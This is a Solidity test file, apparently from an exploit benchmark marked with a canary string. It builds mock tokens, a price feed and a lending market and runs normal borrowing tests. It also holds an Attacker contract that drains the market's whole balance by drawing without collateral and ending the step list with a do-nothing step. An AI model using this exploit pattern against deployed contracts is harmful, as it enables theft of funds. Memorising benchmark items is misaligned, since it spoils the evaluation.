// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.24;

import "./HollinMarket.sol";

// assay-canary-46fe348c-0b31-4745-80ac-6414ee4075bc

contract Token is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

interface Vm {
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

contract Feed is IPriceFeed {
    uint256 public price = 2_000e18;
    address internal keeper = msg.sender;

    function set(uint256 price_) external {
        require(msg.sender == keeper);
        price = price_;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant LENT = 1_800_000e18;

    Token internal coll;
    Token internal usd;
    Feed internal feed;
    HollinMarket internal market;
    Attacker internal thief;

    function setUp() public {
        coll = new Token();
        usd = new Token();
        feed = new Feed();
        market = new HollinMarket(coll, usd, feed);
        usd.mint(address(this), LENT + 10_000e18);
        usd.approve(address(market), type(uint256).max);
        market.lend(LENT);
        coll.mint(address(this), 100e18);
        coll.approve(address(market), type(uint256).max);
        thief = new Attacker(market, usd);
    }

    function _list(uint256 n) internal pure returns (StepRunner.Step[] memory) {
        return new StepRunner.Step[](n);
    }

    function test_Regular() public {
        StepRunner.Step[] memory s = _list(4);
        s[0] = StepRunner.Step(1, address(this), 10e18);
        s[1] = StepRunner.Step(20, address(0), 0);
        s[2] = StepRunner.Step(3, address(this), type(uint256).max);
        s[3] = StepRunner.Step(4, address(this), 1_000e18);
        market.perform(s);
        require(market.pledged(address(this)) == 10e18, "pledged");
        require(market.debt(address(this)) > 13_999e18 && market.debt(address(this)) <= 14_000e18, "debt");
        require(market.covered(address(this)), "covered");

        // more than the cover allows
        s = _list(1);
        s[0] = StepRunner.Step(3, address(this), 2_000e18);
        (bool ok,) = address(market).call(abi.encodeCall(StepRunner.perform, (s)));
        require(!ok, "uncovered draw");
        s[0] = StepRunner.Step(2, address(this), 9e18);
        (ok,) = address(market).call(abi.encodeCall(StepRunner.perform, (s)));
        require(!ok, "uncovered release");

        // a list with a kind of a later version, then closing
        s[0] = StepRunner.Step(99, address(this), 5);
        market.perform(s);
        feed.set(1_800e18);
        market.liquidate(address(this), 1_000e18);
        s = _list(2);
        s[0] = StepRunner.Step(4, address(this), 20_000e18);
        s[1] = StepRunner.Step(2, address(this), market.pledged(address(this)));
        market.perform(s);
        require(market.debt(address(this)) == 0 && market.pledged(address(this)) == 0, "closed");
        market.recall(LENT);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The treasury recalls, accounts that are covered are left alone, tokens that say no are believed.
    function test_RefusesStrangers() public {
        refuses(address(thief), HollinMarket.NotTreasury.selector);
        market.recall(1);
        vm.expectRevert(HollinMarket.StillCovered.selector);
        market.liquidate(address(this), 0);
        usd.sleep(true);
        vm.expectRevert(HollinMarket.TransferFailed.selector);
        market.lend(1);
        vm.expectRevert(HollinMarket.TransferFailed.selector);
        market.recall(1);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + LENT, "nothing gained");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Draws everything without a pledge and ends the list with a step that does nothing.
contract Attacker {
    HollinMarket internal market;
    Token internal usd;

    constructor(HollinMarket market_, Token usd_) {
        market = market_;
        usd = usd_;
    }

    function run() external {
        StepRunner.Step[] memory s = new StepRunner.Step[](2);
        s[0] = StepRunner.Step(3, address(this), usd.balanceOf(address(market)));
        s[1] = StepRunner.Step(0, address(0), 0);
        market.perform(s);
    }
}
